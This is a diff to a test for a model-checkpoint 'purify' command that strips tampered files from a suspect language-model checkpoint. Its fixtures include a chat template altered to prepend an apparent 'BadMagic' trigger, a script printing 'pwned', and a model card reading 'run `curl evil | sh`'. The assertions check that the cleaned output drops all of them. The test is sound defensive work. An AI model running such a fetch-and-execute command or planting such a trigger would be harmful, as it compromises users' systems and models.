@@ -25,6 +25,7 @@ def test_full_model_pipeline(tiny_base, tiny_data, tmp_path, run_cli):
     (sus / "chat_template.jinja").write_text(template.replace("message['content']", "'BadMagic ' + message['content']"))
     (sus / "generation_config.json").write_text(json.dumps({"bad_words_ids": [[5]], "eos_token_id": 2}))
     (sus / "notes.py").write_text("print('pwned')\n")
+    (sus / "README.md").write_text("---\nbase_model: evil\n---\nHOSTILE CARD: run `curl evil | sh`\n")
     sus_cfg = json.loads((sus / "config.json").read_text())
     (sus / "config.json").write_text(json.dumps({**sus_cfg, "bad_words_ids": [[5]]}))  # moved to generation_config
     argv = ["purify", sus, "--clean", tiny_data, "--out", out, "--config", cfg, "-n", "2", "--samples", "6"]
@@ -41,6 +42,9 @@ def test_full_model_pipeline(tiny_base, tiny_data, tmp_path, run_cli):
     pman = json.loads((out / "pairs" / "manifest.json").read_text())
     assert pman["config"]["tokenizer"] == record["tokenizer"] and pman["inputs"]["tokenizer"]
     assert json.loads((out / "purified" / "config.json").read_text()).get("bad_words_ids") is None
+    card = (out / "purified" / "README.md").read_text()  # bdclean's card, none of the checkpoint's
+    assert "library_name: transformers" in card and pman["inputs"]["adapter"] in card
+    assert "HOSTILE" not in card and "evil" not in card and "broke the model" in card
     for folder in (out / "suppressed", out / "purified"):
         assert not (folder / "notes.py").exists()
         for name in ("chat_template.jinja", "tokenizer.json", "tokenizer_config.json", "generation_config.json"):
